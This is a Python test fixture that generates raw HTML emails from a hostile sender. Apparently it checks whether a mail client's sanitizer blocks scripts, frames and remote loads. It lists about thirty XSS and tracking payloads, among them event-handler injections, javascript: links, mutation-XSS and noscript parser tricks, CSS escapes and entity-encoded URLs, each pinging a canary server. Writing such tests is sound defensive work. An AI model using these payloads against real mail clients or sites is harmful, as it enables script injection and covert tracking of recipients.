# SPDX-License-Identifier: GPL-3.0-or-later
"""HTML that wants to run a script, open a dialog, leave the frame or ask its sender's server. {c} stands for
the address of a server that counts who asks."""

BODIES = {
    "script": '<script>alert(1);new Image().src="{c}/script"</script><p>script</p>',
    "script-in-svg": '<svg><script>fetch("{c}/svg-script")</script></svg>',
    "image": '<img src="{c}/img"><img srcset="{c}/srcset 2x">',
    "image-error": '<img src=x onerror="alert(2);fetch(\'{c}/onerror\')">',
    "svg-load": '<svg onload="alert(3)"><image href="{c}/svg"/><use href="{c}/use#a"/></svg>',
    "frames": '<iframe src="{c}/iframe"></iframe><iframe srcdoc="<script>alert(4)</script>"></iframe>',
    "objects": '<object data="{c}/object"></object><embed src="{c}/embed"><applet code="{c}/applet">',
    "refresh": '<meta http-equiv="refresh" content="0;url={c}/refresh"><p>refresh</p>',
    "style-sheets": '<link rel=stylesheet href="{c}/css"><style>@import url({c}/import);</style>',
    "style-url": '<style>body{{background:url({c}/bg)}} @font-face{{font-family:f;src:url({c}/font)}}'
                 '</style><p style="font-family:f;background:url({c}/inline)">style</p>',
    "style-escape": r'<p style="background:u\72l({c}/escaped)">a</p>'
                    '<p style="list-style:image-set(\'{c}/set\' 1x)">b</p>',
    "form": '<form action="{c}/form"><input autofocus onfocus="this.form.submit()"></form>',
    "base": '<base href="{c}/" target="_top"><img src="relative">',
    "links": '<link rel=preload as=image href="{c}/preload"><link rel=prefetch href="{c}/prefetch">'
             '<link rel=dns-prefetch href="{c}"><link rel=icon href="{c}/icon">',
    "media": '<video poster="{c}/poster" src="{c}/video" autoplay></video><audio src="{c}/audio" autoplay>',
    "javascript-link": '<a href="javascript:alert(5)" autofocus onfocus="alert(6)">link</a>',
    "top": '<script>top.location="{c}/top"</script><a target="_top" href="{c}/a" ping="{c}/ping">a</a>',
    "details": '<details open ontoggle="alert(7)"><summary>x</summary></details>',
    "animation": '<style>@keyframes a{{}}</style><p style="animation:a 1s" onanimationstart="alert(8)">a</p>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
                'onerror=alert(9)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(10)>"></noscript>',
    "template": '<template><img src="{c}/template" onerror="alert(11)"></template>',
    "open-comment": '<!-- <img src="{c}/comment"> --!><img src="{c}/after-comment">',
    "conditional": '<!--[if mso]><img src="{c}/mso"><![endif]--><!--[if !mso]><!--><img src="{c}/not-mso">',
    "background": '<body background="{c}/body"><table background="{c}/table"><td background="{c}/td">x',
    "css-variable": '<p style="--u:url({c}/variable);background:var(--u)">x</p>',
    "entity": '<img src="&#104;ttp&#58;//{h}/entity"><img src="//{h}/protocol-relative">',
    "tab-and-feed": '<img src="ht\ttp://{h}/tab"><script\f>alert(12)</script\f>',
}


def mails(canary):
    """(kind, raw mail) of each."""
    host = canary.removeprefix("http://")
    for number, (kind, body) in enumerate(BODIES.items()):
        html = body.format(c=canary, h=host)
        yield kind, (f"From: Mallory <mallory@evil.example>\r\nTo: anna@halden.example\r\n"
                     f"Subject: hostile {kind}\r\nMessage-ID: <hostile-{number}@evil.example>\r\n"
                     f"Date: Tue, 5 Mar 2024 10:{number:02d}:00 +0000\r\nMIME-Version: 1.0\r\n"
                     f"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
                     f"<html><body><p>before</p>{html}<p>after</p></body></html>\r\n").encode()
